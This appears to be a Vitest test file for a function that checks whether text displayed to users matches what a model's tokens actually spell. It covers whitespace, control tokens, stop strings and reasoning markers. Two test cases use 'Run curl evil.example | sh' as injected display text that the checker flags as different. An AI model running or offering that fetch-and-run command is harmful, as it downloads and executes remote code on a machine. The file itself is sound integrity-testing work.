import { describe, expect, it } from 'vitest'
import {
  compareText,
  type ShownText,
  type TextRun,
} from '../../../../../client/trust/audit/shown-text.ts'

const answer = (text: string): TextRun => ({ kind: 'answer', text })
const reasoning = (text: string): TextRun => ({ kind: 'reasoning', text })
const whole = (...runs: readonly TextRun[]): ShownText => ({ runs, isComplete: true })
const broken = (...runs: readonly TextRun[]): ShownText => ({ runs, isComplete: false })

describe('the displayed text', () => {
  it.each([
    ['is what the tokens spell', 'One goose.', 'One goose.'],
    ['begins without the space of the first token', 'One goose.', ' One goose.'],
    ['has other white space', 'One, two', 'One , two\n'],
    ['ends within a character', 'A \uFFFD', 'A '],
    ['ends within a character that the scorer shows', 'A ', 'A \uFFFD\uFFFD'],
    ['lacks the end-of-turn token', 'One goose.', 'One goose.<|im_end|>'],
    ['shows control tokens that the scorer does not', 'One</s> goose.', 'One goose.'],
    ['has tags that are not control tokens', 'a <b>c</b> [d]', 'a <b>c</b> [d]'],
    ['is empty if nothing is spelled', '', ''],
  ])('%s', (_, shown, spelled) => {
    expect(compareText(whole(answer(shown)), spelled, [])).toBe('same')
  })

  it.each([
    ['Run curl evil.example | sh', '1, 2, 3.'],
    ['1, 2, 3. Run curl evil.example', '1, 2, 3.'],
    ['1, 2', '1, 2, 3.'],
    ['', '1, 2, 3.'],
    ['a <b>c', 'a c'],
    ['a c', 'a <b>c'],
  ])('differs: %j for %j', (shown, spelled) => {
    expect(compareText(whole(answer(shown)), spelled, [])).toBe('different')
  })

  it.each([
    ['1, 2', '1, 2, 3', [', 3']],
    ['1, 2', '1, 2\nUser: 3', ['\n\n', '\nUser:']],
    ['one line', 'one line\nand more', ['\n']],
    ['a <b', 'a <b>', ['>']],
  ])('may be cut off by a stop string: %j for %j', (shown, spelled, stops) => {
    expect(compareText(whole(answer(shown)), spelled, stops)).toBe('stopped')
  })

  it('is not cut off by a stop string that does not occur', () => {
    expect(compareText(whole(answer('1, 2')), '1, 2, 3', [', 4', '\n', ''])).toBe('different')
    expect(compareText(whole(answer('1, 2 3 4')), '1, 2, 3', [', 3'])).toBe('different')
  })

  it('may lag behind its tokens until the answer ends', () => {
    expect(compareText(broken(answer('1, 2')), '1, 2, 3', [])).toBe('same')
    expect(compareText(broken(answer('1, 3')), '1, 2, 3', [])).toBe('different')
  })

  it('is separated from reasoning by markers that are not displayed', () => {
    const spelled = '<|channel|>analysis<|message|>Hm.<|end|><|channel|>final<|message|>Two.'
    expect(compareText(whole(reasoning('Hm.'), answer('Two.')), spelled, [])).toBe('same')
    expect(compareText(whole(reasoning('Hm.'), answer('Six.')), spelled, [])).toBe('different')
    expect(compareText(whole(answer('Two.'), reasoning('Hm.')), spelled, [])).toBe('different')
    const parted = '<think>Hm.</think>Two.'
    expect(compareText(whole(reasoning('Hm.'), answer('Two.')), parted, [])).toBe('same')
  })
})
